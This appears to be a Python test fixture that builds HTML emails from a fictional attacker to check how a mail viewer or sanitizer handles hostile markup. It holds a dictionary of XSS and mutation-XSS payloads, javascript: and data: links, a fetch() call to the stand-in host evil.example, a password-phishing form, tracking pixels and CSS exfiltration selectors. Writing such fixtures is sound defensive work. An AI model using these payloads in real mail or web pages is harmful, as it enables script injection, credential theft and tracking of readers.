"""HTML mails that try to run, load, lead away or deceive when a person reads them; all of them by us, after the classics."""

from typing import Final

AWAY: Final = "https://evil.example"
MARKUP: Final = {
    "script": "<script>document.title='owned';fetch('https://evil.example/a')</script>",
    "handler": "<img src=x onerror=\"document.title='owned'\"><body onload=\"document.title='owned'\"><p onclick=alert(1)>press",
    "javascript-link": "<a href=\"javascript:document.title='owned'\">read</a><a href='java\tscript:alert(1)'>b</a><a href=' &#106;avascript:x'>c</a>",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>open</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "svg": "<svg onload=\"document.title='owned'\"><image href='https://evil.example/s.svg'/><use href='https://evil.example/u#a'/></svg>",
    "svg-picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/r'>",
    "base": "<base href='https://evil.example/'><a href=login>sign in</a><img src=pixel.gif>",
    "form": "<form action='https://evil.example/f'><input name=password><button>Sign in</button></form>",
    "formaction": "<button formaction='https://evil.example/f'>go</button><input type=image src='https://evil.example/i'>",
    "frame": "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>top.document.title=1</script>'></iframe><object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "pixel": "<img src='https://evil.example/p.gif' width=0 height=0><img src='//evil.example/q.gif' style='width:1px;height:1px'><p>hello",
    "pictures": "<img src='https://evil.example/a.png' srcset='https://evil.example/b.png 2x'><picture><source srcset='https://evil.example/c'></picture><video poster='https://evil.example/v'></video><table background='https://evil.example/t'><tr><td>x</table>",
    "css": "<style>@import 'https://evil.example/i.css';@font-face{font-family:a;src:url(https://evil.example/f)}p{background:url(https://evil.example/b)}input[value^=a]{background:url(https://evil.example/x)}</style><link rel=stylesheet href='https://evil.example/l.css'><p style='background:url(https://evil.example/s)'>styled",
    "overlay": "<div style='position:fixed;inset:0;background:#fff;z-index:99'>Your session has ended</div>",
    "cid-trick": "<img src='cid:nothing'><img src='cid:x\" onerror=\"alert(1)'><img src='CID:https://evil.example/'>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\">",
    "mxss-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='owned'&gt;\">",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=document.title='owned'>",
    "mxss-title": "<svg></p><style><a id=\"</style><img src=1 onerror=document.title='owned'>\">",
    "mxss-template": "<template><style></template><img src=x onerror=document.title='owned'></style>",
    "mxss-textarea": "<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext><b>",
    "mxss-select": "<select><iframe></select><img src=x onerror=document.title='owned'>",
    "comment": "<!--><img src=x onerror=document.title='owned'>--><![CDATA[<img src=x onerror=alert(1)>]]><?php <img src=x>?>",
    "attribute-break": "<td colspan='2\" onmouseover=\"alert(1)'>cell</td><p dir='ltr\" onclick=\"x'>p</p>",
    "unclosed": "<details><summary><mark class='cue'><blockquote><div></main></body></html><img src=https://evil.example/z><script src=https://evil.example/s.js",
    "entities": "&lt;script&gt;document.title='owned'&lt;/script&gt;<p>&#60;img src=x onerror=alert(1)&#62;",
    "preload": "<link rel=preload href='https://evil.example/p' as=script><link rel=dns-prefetch href='//evil.example'><link rel=icon href='https://evil.example/i'>",
    "target": "<a href='https://evil.example/phish' target=_top>https://harbour.example/sign-in</a><area href='https://evil.example/m' ping='https://evil.example/ping'>",
}
"""Body by name of the trick."""


SWALLOWING: Final = (*(name for name in MARKUP if name.startswith("mxss")), "unclosed", "comment")
"""Tricks after which a browser might read nothing else: each needs a mail of its own."""


def few_mails() -> list[bytes]:
    """All tricks in a few mails."""
    together = " ".join(body for name, body in MARKUP.items() if name not in SWALLOWING)
    return [mail_with(together, "together"), *(mail_of(name) for name in SWALLOWING)]


def mail_of(name: str) -> bytes:
    """The mail of a trick; its subject is the name."""
    return mail_with(MARKUP[name], name)


def mail_with(body: str, subject: str, charset: str = "utf-8") -> bytes:
    """A mail of HTML."""
    head = (
        f"From: Mallory <mallory@evil.example>\r\nTo: support@harbour.example\r\nSubject: Trick {subject}\r\n"
        f"Message-ID: <{abs(hash(subject))}.{len(body)}@evil.example>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return head.encode() + f"<html><body>The export of trick {subject} fails. {body}<p>end of it</body></html>".encode(
        charset
    )
